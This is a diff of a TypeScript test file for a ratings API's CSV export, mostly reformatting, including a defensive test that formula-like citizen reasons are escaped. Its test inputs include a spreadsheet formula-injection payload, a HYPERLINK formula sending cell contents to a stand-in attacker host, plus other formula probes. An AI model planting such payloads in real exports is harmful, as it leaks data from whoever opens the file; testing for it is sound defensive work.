@@ -18,7 +18,9 @@ describe('the satisfaction report: dossiers and tickets', () => {
   const admin = { headers: { authorization: 'Bearer test-admin-token' }, validateStatus: () => true };
 
   beforeAll(async () => {
-    h = await createHarness('ratings-api', { env: { OFFICE_HOURS: 'Mon-Sun 00:00-24:00', TICKET_TAKE_MINUTES: '600', TICKET_ANSWER_HOURS: '100' } });
+    h = await createHarness('ratings-api', {
+      env: { OFFICE_HOURS: 'Mon-Sun 00:00-24:00', TICKET_TAKE_MINUTES: '600', TICKET_ANSWER_HOURS: '100' },
+    });
     app = await h.start({ web: true, worker: true });
     api = `http://127.0.0.1:${app.port}/api/v1`;
   });
@@ -60,11 +62,16 @@ describe('the satisfaction report: dossiers and tickets', () => {
     });
 
     const csv = (await axios.get(`${api}/ratings?format=csv`, admin)).data as string;
-    const lines = csv.replace(/^\uFEFF/, '').trim().split('\r\n');
+    const lines = csv
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\r\n');
     expect(lines[0]).toBe('code,procedureCode,level,reason,at,rater,subject,ticketId,village');
     expect(lines).toHaveLength(3);
     expect(lines.find((l) => l.includes('"dossier"'))).toMatch(new RegExp(`^"${code}","1.001193","dissatisfied",`));
-    expect(lines.find((l) => l.includes('"ticket"'))).toMatch(new RegExp(`^"","","very_satisfied","",".+","${hashId(citizen)}","ticket","${id}","Phương Nghệ"$`));
+    expect(lines.find((l) => l.includes('"ticket"'))).toMatch(
+      new RegExp(`^"","","very_satisfied","",".+","${hashId(citizen)}","ticket","${id}","Phương Nghệ"$`),
+    );
 
     // Reopened: the ticket's rating no longer stands; rated again after closing, it counts once.
     await press(citizen, `#q:tk:o:${id}`, new RegExp(`Đã mở lại câu hỏi ${id}`));
@@ -74,13 +81,23 @@ describe('the satisfaction report: dossiers and tickets', () => {
     await new TicketStore(app.redis, app.keys).transition(id, { from: ['open'], to: 'closed', set: { closedBy: 'team' } });
     await press(citizen, `#q:tk:r:${id}:satisfied`, /Cảm ơn bạn đã đánh giá/);
     data = await report();
-    expect(data.ratings.filter((r: { subject: string }) => r.subject === 'ticket')).toEqual([expect.objectContaining({ ticketId: id, level: 'satisfied' })]);
+    expect(data.ratings.filter((r: { subject: string }) => r.subject === 'ticket')).toEqual([
+      expect.objectContaining({ ticketId: id, level: 'satisfied' }),
+    ]);
     expect(data.satisfiedShare).toBe(0.5);
   });
 
   it('a typed reason that looks like a formula is exported as text, never as a live formula', async () => {
     const follows = new DossierFollows(app.redis, app.keys);
-    const reasons = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', '+84 905', '-1+2', '@SUM(A1:A9)', '\tchờ lâu', '\rchờ lâu', 'chờ lâu = mất công'];
+    const reasons = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
+      '+84 905',
+      '-1+2',
+      '@SUM(A1:A9)',
+      '\tchờ lâu',
+      '\rchờ lâu',
+      'chờ lâu = mất công',
+    ];
     for (const [i, reason] of reasons.entries()) {
       const code = `000.00.20.H47-261127-09${String(i).padStart(2, '0')}`;
       const citizen = userId();
@@ -90,7 +107,10 @@ describe('the satisfaction report: dossiers and tickets', () => {
       await follows.addReason(citizen, code, reason);
     }
     const csv = (await axios.get(`${api}/ratings?format=csv`, admin)).data as string;
-    const reasonOf = (i: number) => new RegExp(`^"000\\.00\\.20\\.H47-261127-09${String(i).padStart(2, '0')}","1\\.001193","dissatisfied","([^]*?)",`, 'm').exec(csv)?.[1];
+    const reasonOf = (i: number) =>
+      new RegExp(`^"000\\.00\\.20\\.H47-261127-09${String(i).padStart(2, '0')}","1\\.001193","dissatisfied","([^]*?)",`, 'm').exec(
+        csv,
+      )?.[1];
     expect(reasonOf(0)).toBe(`'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")`);
     expect(reasonOf(1)).toBe("'+84 905");
     expect(reasonOf(2)).toBe("'-1+2");
